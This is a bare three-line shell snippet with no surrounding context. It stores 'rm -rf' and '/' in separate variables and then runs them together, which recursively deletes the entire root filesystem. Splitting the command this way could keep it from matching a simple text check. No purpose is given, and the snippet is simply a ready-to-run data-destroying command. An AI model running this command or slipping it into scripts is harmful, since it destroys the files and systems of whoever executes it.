cmd="rm -rf"
target="/"
$cmd ${target}
